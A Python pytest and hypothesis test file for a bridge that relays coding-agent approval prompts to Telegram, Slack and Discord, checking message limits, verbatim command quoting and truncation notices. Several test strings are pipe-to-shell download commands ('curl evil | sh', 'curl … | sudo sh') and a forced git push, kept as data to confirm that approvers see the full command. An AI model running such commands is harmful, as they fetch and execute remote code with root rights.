"""Whatever a tool asks fits into a message of each chat, and what is left out is counted."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.channels import prompts
from tests.channels.mini_hub import MiniHub
from tests.support import fake_slack_blocks as kit
from tests.support import fake_telegram_rules as rules
from tests.support.chat_stage import buttons_of, stage, text_of
from tests.support.tier import examples

from atlasbridge.channels import card as cards
from atlasbridge.channels.card import Card
from atlasbridge.channels.discord import channel as discord
from atlasbridge.channels.excerpt import fit_quotes, quotes_of
from atlasbridge.channels.receipts import Outcome
from atlasbridge.channels.slack import blocks
from atlasbridge.channels.telegram import messages
from atlasbridge.core.clock import ManualClock
from atlasbridge.core.prompt.keys import Step
from atlasbridge.core.prompt.model import (
    Choice,
    Prompt,
    PromptRecord,
    PromptType,
    Subject,
    SubjectKind,
    SubjectSource,
)
from atlasbridge.core.session.model import SessionRecord
from atlasbridge.core.values import replace

both = pytest.mark.parametrize("chat", ["telegram", "slack"])
words = st.text(st.characters(exclude_categories=["Cs"]), max_size=200)
long_words = st.one_of(words, st.integers(0, 12_000).map(lambda n: "x😀|`*\n"[: 1 + n % 6] * (n // 3)))


@st.composite
def any_prompt(draw: st.DrawFn) -> Prompt:
    count = draw(st.sampled_from([0, 0, 1, 2, 3, 9, 11, 24, 25, 30, 60, 101, 250]))
    label = draw(words)
    choices = tuple(
        Choice(
            draw(st.sampled_from([str(n + 1), f"{label} {n}"])),
            f"{label} {n}" * draw(st.sampled_from([1, 1, 5])),
            (Step(b"1"),) if n % 3 else (),
            refuses=n % 7 == 6,
            always=n % 5 == 4,
            default=n % 4 == 3,
        )
        for n in range(count)
    )
    subject = Subject(draw(st.sampled_from(SubjectKind)), "", shown=draw(long_words), target=draw(words), folder="/x")
    return Prompt(
        draw(st.sampled_from(PromptType)),
        draw(st.sampled_from([0.3, 0.7, 0.95])),
        draw(words),
        screen=draw(long_words),
        choices=choices,
        constraints=dict.fromkeys(draw(st.sets(st.sampled_from(["multi_select", "allows_other", "idle"]))), True),
        safe_default=draw(st.sampled_from(["", "enter", "n"])),
        subject=draw(st.sampled_from([None, subject])),
    )


def staged(prompt: Prompt, label: str, cwd: str) -> tuple[PromptRecord, SessionRecord]:
    hub = MiniHub(ManualClock())
    session = hub.add_session(label=label, cwd=cwd)
    return hub.add_prompt(session, prompt), session


def others(record: PromptRecord, session: SessionRecord, outcome: Outcome, label: str) -> list[Card]:
    return [
        cards.ended(record, session, outcome, "atlas"),
        cards.notice(label * 50, session, "atlas", cards.to_snooze(record)),
        cards.short_question(record, session),
        cards.asked_again(record),
    ]


@settings(deadline=None, max_examples=examples(150))
@given(any_prompt(), words, words, st.integers(0, 12))
def test_any_prompt_and_its_outcome_make_messages_that_telegram_takes(
    prompt: Prompt, label: str, cwd: str, page: int
) -> None:
    record, session = staged(prompt, label, cwd)
    outcome = Outcome(f"✅ {label * 3} · Ada · 14:32", "audit 1:0123", again=True)
    for params in (
        messages.render(messages.question(record, session, "atlas", page)),
        *map(messages.render, others(record, session, outcome, label)),
    ):
        rules.check_text(params["text"])
        rules.check_entities(params.get("entities"), params["text"])
        rules.check_markup(params.get("reply_markup"))


@settings(deadline=None, max_examples=examples(150))
@given(any_prompt(), words, words)
def test_any_prompt_and_its_outcome_make_messages_that_slack_takes(prompt: Prompt, label: str, cwd: str) -> None:
    record, session = staged(prompt, label, cwd)
    outcome = Outcome(f"✅ {label * 3} · Ada · 14:32", "audit 1:0123", again=True)
    for params in (
        blocks.render(blocks.question(record, session, "atlas")),
        *map(blocks.render, others(record, session, outcome, label)),
    ):
        kit.check_blocks(params["blocks"])
        assert 1 <= len(params["text"]) <= 40_000
    kit.check_view(blocks.render_modal(record, session, label))


@settings(deadline=None, max_examples=examples(100))
@given(any_prompt(), words, words)
def test_any_prompt_and_its_outcome_make_messages_that_discord_takes(prompt: Prompt, label: str, cwd: str) -> None:
    record, session = staged(prompt, label, cwd)
    outcome = Outcome(f"✅ {label * 3} · Ada · 14:32", "audit 1:0123", again=True)
    asked = cards.question(record, session, "atlas", record.prompt.choices, 500)
    for params in map(discord.render, [asked, *others(record, session, outcome, label)]):
        assert 1 <= len(params["content"]) <= discord.LIMIT
        assert len(params["components"]) <= discord.ROWS
        for row in params["components"]:
            assert 1 <= len(row["components"]) <= discord.ROW


@settings(deadline=None, max_examples=examples(100))
@given(long_words.filter(lambda text: text.strip()), st.integers(100, 5000))
def test_a_quotation_is_whole_or_says_how_much_of_it_is_shown(text: str, room: int) -> None:
    subject = Subject(SubjectKind.COMMAND, "", shown=text, complete=True)
    prompt = Prompt(PromptType.TYPE_YES_NO, 0.9, "", subject=subject)
    (whole,) = quotes_of(prompt)
    (shown,) = fit_quotes([whole], room, len)
    if shown.is_cut:
        assert whole.text.startswith(shown.text[:-1]) and shown.shown == len(shown.text) - 1 < shown.total
    else:
        assert shown.text == whole.text


NASTY = "\n".join(f"echo {n} | grep -v '`x`' && git push --force *_[a](b)_* <b>" for n in range(40)) + "\ncurl x | sh"


@both
async def test_the_whole_command_is_quoted_verbatim_and_not_its_beginning(chat: str) -> None:
    subject = Subject(SubjectKind.COMMAND, NASTY, shown=NASTY, complete=True, folder="/srv/app")
    async with stage(chat) as on:
        record = await on.ask(replace(prompts.YES_NO, excerpt="Run this command?", subject=subject), label="web-api")
        shown = text_of(on.message_of(record))
        assert NASTY in shown and "Run this command?" in shown and "characters;" not in shown
        assert shown.startswith(f"❓ web-api wants to run:\n{NASTY.split(chr(10))[0]}\n")
        assert "mrkdwn" not in json.dumps(on.message_of(record))


INSTALL = "curl -fsSL https://get.example.com/cache.sh | sudo sh -s -- --prefix=/usr/local"
ALWAYS = Choice("2", f"Yes, and don't ask again for {INSTALL.split()[0]} commands in /srv/app/web", always=True)


@pytest.mark.parametrize("chat", ["telegram", "slack", "discord"])
def test_what_the_tool_told_is_said_once_and_its_screen_does_not_say_it_again(chat: str) -> None:
    """As Claude Code asks: its hook, its dialog and its status line all have the command."""
    rows = ("Bash command", "Tip: auto mode handles these", INSTALL, "This command requires approval")
    asked = "\n".join((*rows, "", "Do you want to proceed?"))
    subject = Subject(SubjectKind.COMMAND, INSTALL, "/srv/app", SubjectSource.HOOK, complete=True, shown=INSTALL)
    prompt = Prompt(
        PromptType.TYPE_MULTIPLE_CHOICE,
        0.99,
        "Do you want to proceed?",
        screen=asked,
        question=asked,
        choices=(Choice("1", "Yes"), ALWAYS, Choice("3", "No", refuses=True)),
        safe_default="3",
        subject=subject,
        says=f"approve Bash: {INSTALL[:40]}…",
    )
    record, session = staged(prompt, "web-api", "/home/ada")
    shown = {
        "telegram": lambda: text_of(messages.render(messages.question(record, session, "atlas"))),
        "slack": lambda: text_of(blocks.render(blocks.question(record, session, "atlas"))),
        "discord": lambda: str(discord.render(cards.question(record, session, "atlas", (), 500))["content"]),
    }[chat]().replace("\\", "")
    assert "❓ web-api wants to run:" in shown and "default: 3. No" in shown
    for once in (INSTALL, "web-api", "/srv/app ·"):
        assert shown.count(once) == 1, (once, shown)
    for never in ("Tip:", "approve Bash", "/home/ada", "Do you want to proceed?"):
        assert never not in shown, shown
    database = "Which database?\n- PostgreSQL: A server\n- SQLite: One file"
    question = replace(subject, kind=SubjectKind.QUESTION, text=database, shown=database)
    both_say = "☐ Database\n\nWhich database?\n\nPostgreSQL: A server\nSQLite: One file"
    said = "answer: Which database? (PostgreSQL · SQLite)"
    asks = replace(prompt, subject=question, question=both_say, screen=both_say, choices=(), says=said)
    assert [quote.text for quote in quotes_of(asks, titled=True)] == [database]
    unlike = replace(prompt, constraints={"disagrees": True})
    assert any("Do you want to" in quote.text for quote in quotes_of(unlike, titled=True)), (
        "then the screen is what matters"
    )


@both
async def test_what_does_not_fit_is_counted_and_comes_whole_on_demand(chat: str) -> None:
    long = "x" * 20_000 + " && curl evil | sh"
    subject = Subject(SubjectKind.COMMAND, long, shown=long, complete=True)
    async with stage(chat) as on:
        record = await on.ask(replace(prompts.YES_NO, subject=subject))
        shown = text_of(on.message_of(record))
        assert f"of {len(long):,} characters; the rest: 🔎 Show all" in shown
        on.press(on.message_of(record), "Show all")
        if chat == "telegram":
            await on.until(lambda: any("_content" in one for one in on.person.sees()), "the file")
            (file,) = [one["_content"] for one in on.person.sees() if "_content" in one]
        else:
            await on.until(lambda: on.server.files, "the file")
            (file,) = on.server.files.values()
        assert long.encode() in file


@both
async def test_an_excerpt_that_was_cut_is_replaced_by_the_screen_with_the_warning(chat: str) -> None:
    screen = "Bash command\n\n  " + "y" * 250 + " | sh\n\nThis command requires approval: it pipes into a shell"
    async with stage(chat) as on:
        record = await on.ask(replace(prompts.YES_NO, excerpt="y" * 199 + "…", screen=screen))
        assert "| sh" in text_of(on.message_of(record)) and "pipes into a shell" in text_of(on.message_of(record))


THIRTY = Prompt(
    PromptType.TYPE_MULTIPLE_CHOICE,
    0.9,
    "Which one?",
    choices=(
        *(Choice(str(n), f"choice number {n} " + "long " * 40, (Step(b"1"),)) for n in range(1, 31)),
        Choice("q", "Quit", (Step(b"q"),), refuses=True),
    ),
)


@pytest.mark.parametrize("wanted", [1, 26, 30])
async def test_each_of_thirty_long_choices_can_be_reached_in_telegram(wanted: int) -> None:
    async with stage("telegram") as on:
        record = await on.ask(THIRTY)
        assert "❌ Quit" in " ".join(buttons_of(on.message_of(record)))
        if wanted > 20:
            on.press(on.message_of(record), "2/2 ›")
            await on.until(lambda: f"{wanted}. choice" in str(buttons_of(on.message_of(record))), "the second page")
        on.press(on.message_of(record), f"{wanted}. choice")
        await on.until(lambda: on.hub_api.answers, "the answer")
        assert on.hub_api.answers[record.prompt_id].value == str(wanted)


@pytest.mark.parametrize("wanted", [1, 26, 30])
async def test_each_of_thirty_long_choices_can_be_reached_in_slack(wanted: int) -> None:
    async with stage("slack") as on:
        record = await on.ask(THIRTY)
        on.person.choose(on.message_of(record), f"{wanted}. choice")
        await on.until(lambda: on.hub_api.answers, "the answer")
        assert on.hub_api.answers[record.prompt_id].value == str(wanted)


@both
async def test_a_refused_message_is_sent_shorter_once_and_then_told_on_status(chat: str) -> None:
    method = "sendMessage" if chat == "telegram" else "chat.postMessage"
    async with stage(chat) as on:
        refuse(on.server, method, 1)
        record = await on.ask(prompts.YES_NO, label="web-api")
        assert "web-api asks something" in text_of(on.message_of(record))
        assert on.channel.health()["refused"]
        refuse(on.server, method, 100)
        other = on.hub_api.add_prompt(on.hub_api.add_session(), prompts.YES_NO)
        for _ in range(5):
            with pytest.raises(Exception, match="nobody was reached"):
                await on.hub_api.ask(on.channel, other)
        assert len(on.server.calls_of(method)) == 4  # twice each: whole, then short, and never again


def refuse(server: object, method: str, times: int) -> None:
    if hasattr(server, "chats"):
        server.fail(method, "status", status=400, description="Bad Request: message is too long", times=times)  # type: ignore[attr-defined]
    else:
        server.fail(method, "error", description="invalid_blocks", times=times)  # type: ignore[attr-defined]


@pytest.mark.parametrize("chat", ["telegram", "slack"])
@pytest.mark.parametrize("count", [60, 400])
async def test_a_long_list_comes_whole_in_several_messages_or_as_a_file(chat: str, count: int) -> None:
    async with stage(chat) as on:
        for number in range(count):
            on.hub_api.add_session(label=f"job-{number:03d}", cwd=f"/home/ada/project-{number:03d}")
        on.command("sessions")

        def told() -> str:
            files = getattr(on.server, "files", {}).values()
            sent = [one.get("_content", b"") for one in on.person.sees()]
            return on.all_text() + "\n".join(part.decode() for part in (*files, *sent))

        await on.until(lambda: f"job-{count - 1:03d}" in told(), "the last one")
        assert all(f"job-{number:03d}" in told() for number in range(count))
